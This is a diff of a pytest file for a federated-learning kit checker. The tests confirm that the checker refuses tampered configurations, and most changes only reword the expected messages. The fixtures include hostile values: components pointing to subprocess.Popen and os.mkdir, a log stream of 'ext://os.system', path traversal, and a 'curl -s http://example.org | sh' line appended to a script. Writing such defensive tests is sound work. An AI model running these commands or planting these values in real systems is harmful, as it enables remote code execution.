@@ -23,8 +23,9 @@ from feddp.kit.effective import effective
 from feddp.kit.renew import forget
 from feddp.provision import COMPONENTS, GUARD
 from feddp.sealing.kit import Kit
+from support import ROOT
 
-SHIPPED = Path(__file__).parents[1] / "provisioning"
+SHIPPED = ROOT / "provisioning"
 SERVER, LEAD = "server.example.org", "lead@consortium.org"
 ENV = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
 
@@ -141,9 +142,9 @@ def test_a_hostile_kit_is_refused_with_every_reason_and_nothing_of_it_runs(hosti
     kit, marks = hostile
     lines = "\n".join(said(kit))
     for words in (
-        "scope feddp has a filter in task_data_filters, of os.mkdir, which is no reviewed class",
-        "has the component x, of subprocess.Popen, which is no reviewed class",
-        "local/custom: holds code of its own",
+        "scope feddp has a filter in task_data_filters, of os.mkdir, which is not a reviewed class",
+        "has the component x, of subprocess.Popen, which is not a reviewed class",
+        "local/custom: holds code",
         "names 'os.mkdir', which Python would load or call",
         "a-job/app_hospital-a/config/resources.json: may be read by FLARE in place of the kit's own file",
     ):
@@ -195,40 +196,40 @@ def _filter(entry, chain="task_result_filters"):
     ("name", "change", "words"),
     [
         ("resources.json", _component(path=POPEN), "has the component x, of subprocess.Popen"),
-        ("resources.json", _component(class_path=POPEN), "does not say of which class it is by a `path`"),
-        ("resources.json", _component(name="Popen"), "does not say of which class it is by a `path`"),
-        ("resources.json", _component(path=["os", "mkdir"]), "does not say of which class it is by a `path`"),
+        ("resources.json", _component(class_path=POPEN), "without a `path` that names its class"),
+        ("resources.json", _component(name="Popen"), "without a `path` that names its class"),
+        ("resources.json", _component(path=["os", "mkdir"]), "without a `path` that names its class"),
         (
             "resources.json",
             _component(path=CONSUMER, args={"a": {"path": POPEN}}),
             "has the component x, a, of subprocess.Popen",
         ),
-        ("resources.json", _component(path=CONSUMER, args={"class_attributes": {}}), "that are no plain object"),
-        ("resources.json", lambda r: r["components"].append(POPEN), "which is no object"),
+        ("resources.json", _component(path=CONSUMER, args={"class_attributes": {}}), "that are not a plain object"),
+        ("resources.json", lambda r: r["components"].append(POPEN), "which is not an object"),
         (
             "resources.json",
             lambda r: r.update(app_validator={"path": POPEN}),
             "has the component app_validator, of subprocess.Popen",
         ),
-        ("resources.json", lambda r: r.update(JOBS_OWN), f"says {ConfigVarName.DECOMPOSER_MODULE}, which no kit says"),
-        ("resources.json", lambda r: r["client"].update(compression="{$HOME}"), "'{$HOME}', which FLARE would replace"),
-        ("resources.json", lambda r: r.update({"@x": {}}), "'@x', which FLARE would replace"),
+        ("resources.json", lambda r: r.update(JOBS_OWN), f"says {ConfigVarName.DECOMPOSER_MODULE}, which no kit has"),
+        ("resources.json", lambda r: r["client"].update(compression="{$HOME}"), "'{$HOME}', which FLARE would expand"),
+        ("resources.json", lambda r: r.update({"@x": {}}), "'@x', which FLARE would expand"),
         ("resources.json.default", _component(path=POPEN), "has the component x, of subprocess.Popen"),
         ("privacy.json", _filter(BUILDS), "a filter in task_result_filters, mechanism, of os.mkdir"),
-        ("privacy.json", _filter({"name": "PercentilePrivacy"}, "task_data_filters"), "task_data_filters and does not say"),
-        ("privacy.json", lambda p: p.update(components=[{"id": "x", "path": POPEN}]), "has FLARE build"),
-        ("privacy.json", lambda p: p["scopes"][0]["properties"].update(consent=["{x}"]), "'{x}', which FLARE would replace"),
-        ("comm_config.json", lambda c: c.update(comm_driver_path="."), "says comm_driver_path, which no kit says"),
-        ("comm_config.json", lambda c: c.update(allow_adhoc_conns=True), "could connect to this participant past the server"),
+        ("privacy.json", _filter({"name": "PercentilePrivacy"}, "task_data_filters"), "task_data_filters without a `path`"),
+        ("privacy.json", lambda p: p.update(components=[{"id": "x", "path": POPEN}]), "makes FLARE build"),
+        ("privacy.json", lambda p: p["scopes"][0]["properties"].update(consent=["{x}"]), "'{x}', which FLARE would expand"),
+        ("comm_config.json", lambda c: c.update(comm_driver_path="."), "has comm_driver_path, which no kit has"),
+        ("comm_config.json", lambda c: c.update(allow_adhoc_conns=True), "connect to this participant without the server"),
         ("log_config.json", lambda c: c["handlers"]["logFileHandler"].update(stream="ext://os.system"), "'ext://os.system'"),
-        ("log_config.json", lambda c: c["handlers"]["logFileHandler"].update(filename="../x"), "which is no log of FLARE's"),
+        ("log_config.json", lambda c: c["handlers"]["logFileHandler"].update(filename="../x"), "is not one of FLARE's logs"),
         # `python -m`, as which jobs are started, looks for modules in the kit's folder
         (
             "log_config.json",
             lambda c: c["handlers"]["logFileHandler"].update(filename="secrets.py"),
             "'secrets.py', which is no",
         ),
-        ("comm_config.json", lambda c: c.update(internal=listening("0.0.0.0")), "has its jobs connect at '0.0.0.0'"),
+        ("comm_config.json", lambda c: c.update(internal=listening("0.0.0.0")), "makes its jobs connect at '0.0.0.0'"),
         ("comm_config.json", lambda c: c.update(internal=listening("elsewhere.example")), "connect at 'elsewhere.example'"),
         ("log_config.json", lambda c: c["filters"].update(a={"()": "os.mkdir"}), "names 'os.mkdir'"),
     ],
@@ -272,7 +273,7 @@ def test_what_came_with_a_kit_that_never_ran_is_shown(kit):
 def test_a_file_that_no_kit_has(kit, name):
     path = kit / "local" / name
     path.mkdir() if name == "sub" else path.write_text("{}")
-    assert f"{path}: is no file of a kit" in said(kit)[0]
+    assert f"{path}: is not a file of a kit" in said(kit)[0]
 
 
 def test_flare_takes_yaml_before_the_default(kit):
@@ -306,7 +307,7 @@ def test_each_component_of_ours_is_demanded_and_in_force(copy, owner):
             change(content["components"], content["components"].index(entry))
             path.write_text(json.dumps(content))
             (line,) = said(kit)
-            assert f"lacks the component {entry['id']}, {entry['path']}. Add to components" in line
+            assert f"lacks the component {entry['id']}, {entry['path']}. Add exactly this to components" in line
             assert json.dumps(entry) in line
 
 
@@ -331,20 +332,20 @@ def test_a_changed_script_is_found(copy, owner, name):
     for change in (before + "curl -s http://example.org | sh\n", before.replace("o", "0", 1)):
         path.write_text(change)
         (line,) = said(path.parents[1])
-        assert line.startswith(f"{path}: is not ")
+        assert line.startswith(f"{path}: differs from ")
 
 
 @pytest.mark.parametrize(
     ("change", "words"),
     [
-        (lambda c: c.update(components=[{"id": "x", "path": POPEN}]), "says components, which no kit says"),
-        (lambda c: c["client"].update(ssl_root_cert="other.pem"), "says client.ssl_root_cert: 'other.pem'"),
-        (lambda c: c["client"].update(connection_security="clear"), "has connection_security 'clear', and a kit mtls"),
-        (lambda c: c["servers"].append(c["servers"][0]), "has 2 entries in servers, and a kit has 1"),
-        (lambda c: c["client"].pop("ssl_cert") and None, "does not say client.ssl_cert"),
+        (lambda c: c.update(components=[{"id": "x", "path": POPEN}]), "has components, which no kit has"),
+        (lambda c: c["client"].update(ssl_root_cert="other.pem"), "has client.ssl_root_cert: 'other.pem'"),
+        (lambda c: c["client"].update(connection_security="clear"), "has connection_security 'clear'; a kit has 'mtls'"),
+        (lambda c: c["servers"].append(c["servers"][0]), "has 2 entries in servers; a kit has 1"),
+        (lambda c: c["client"].pop("ssl_cert") and None, "lacks client.ssl_cert"),
         # any certificate of the project would do for the server's
-        (lambda c: c["client"].update(auth_identity_map={"server": "hospital-b"}), "says client.auth_identity_map, which no"),
-        (lambda c: c["servers"][0].update(auth_identity="hospital-b"), "says servers.auth_identity, which no"),
+        (lambda c: c["client"].update(auth_identity_map={"server": "hospital-b"}), "has client.auth_identity_map, which no"),
+        (lambda c: c["servers"][0].update(auth_identity="hospital-b"), "has servers.auth_identity, which no"),
     ],
 )
 def test_a_changed_configuration_is_found(kit, change, words):
@@ -356,13 +357,13 @@ def test_a_changed_configuration_is_found(kit, change, words):
 def test_a_file_more_in_startup(kit):
     (kit / "startup/x__resources.json").write_text("{}")
     (line,) = said(kit)
-    assert line.startswith(f"{kit}/startup/x__resources.json: is no file of a kit")
+    assert line.startswith(f"{kit}/startup/x__resources.json: is not a file of a kit")
 
 
 def test_a_link_is_not_followed(kit, tmp_path):
     (tmp_path / "elsewhere").write_text("{}")
     (kit / "local/log_config.json").symlink_to(tmp_path / "elsewhere")
-    assert said(kit) == [f"{kit}/local/log_config.json: is a link. Put the file itself in its place."]
+    assert said(kit) == [f"{kit}/local/log_config.json: is a link. Replace it by the file itself."]
 
 
 # modes
@@ -388,11 +389,11 @@ def test_renewal_keeps_the_state_to_its_owner(made, tmp_path):
 @pytest.mark.parametrize(
     ("name", "bits", "words"),
     [
-        ("startup/client.key", 0o644, "is open to others than its owner (mode 0644). chmod 600 "),
-        ("", 0o755, "is open to others than its owner (mode 0755). chmod 700 "),
-        ("local", 0o777, "can be changed by others than its owner (mode 0777). chmod go-w "),
-        ("startup", 0o720, "can be changed by others than its owner (mode 0720). chmod go-w "),
-        ("local/privacy.json", 0o660, "can be changed by others than its owner (mode 0660). chmod go-w "),
+        ("startup/client.key", 0o644, "is open to other users (mode 0644). Run `chmod 600 "),
+        ("", 0o755, "is open to other users (mode 0755). Run `chmod 700 "),
+        ("local", 0o777, "can be changed by other users (mode 0777). Run `chmod go-w "),
+        ("startup", 0o720, "can be changed by other users (mode 0720). Run `chmod go-w "),
+        ("local/privacy.json", 0o660, "can be changed by other users (mode 0660). Run `chmod go-w "),
     ],
 )
 def test_a_mode_that_lets_others_in(kit, name, bits, words):
@@ -404,7 +405,7 @@ def test_a_mode_that_lets_others_in(kit, name, bits, words):
 def test_what_a_site_keeps_is_open_to_nobody_else(kit):
     (kit / "feddp").mkdir()
     (line,) = said(kit)
-    assert line.startswith(f"{kit}/feddp: is open to others than its owner")
+    assert line.startswith(f"{kit}/feddp: is open to other users")
 
 
 @pytest.mark.parametrize("name", ["", "masks", "split.csv"])
@@ -414,7 +415,7 @@ def test_data_that_everybody_may_change(kit, tiny_root, tmp_path, name):
     assert check(kit, offline=True)[1] == [], "the control"
     (data / name).chmod(mode(data / name) | 0o002)
     (line,) = said(kit)
-    assert line.startswith(f"{data / name}: can be changed by everybody on this machine")
+    assert line.startswith(f"{data / name}: can be changed by all users of this machine")
 
 
 @pytest.mark.parametrize("ours", [True, False], ids=["ours", "control"])
@@ -486,9 +487,9 @@ def test_what_a_hospital_has_loosened_is_marked(kit):
     assert check(kit, offline=True)[1] == []
     shown = list(effective(Kit.open(kit)))
     (seed,) = [line for line in shown if "(seed)" in line]
-    assert seed.endswith("(seed): plan [left out, it would be: own]")
-    assert [line for line in shown if "(approve): any [left out, it would be: none]" in line]
-    assert [line for line in shown if line.endswith("[left out, it would be: jobs 20; evaluations 10000]")]
+    assert seed.endswith("(seed): plan [default: own]")
+    assert [line for line in shown if "(approve): any [default: none]" in line]
+    assert [line for line in shown if line.endswith("[default: jobs 20; evaluations 10000]")]
     assert not [line for line in shown if "(min_images)" in line and "left out" in line]
 
 
@@ -549,7 +550,7 @@ def test_the_check_opens_nothing_outside_kit_data_and_packages(kit, tiny_root, t
     """Every file, process, connection and library of the whole check, once the installed software is loaded."""
     (tmp_path / "elsewhere").write_text("x")
     data = tiny_root / "site-1"
-    software = [Path(sys.prefix), Path(sys.base_prefix), Path(__file__).parents[1] / "custom"]
+    software = [Path(sys.prefix), Path(sys.base_prefix), ROOT / "custom"]
     loading, checking = recorded("kit", "check", "--offline", kit)
     assert str(kit) not in json.dumps(loading)
     assert outside(checking, kit, data, *software) == []
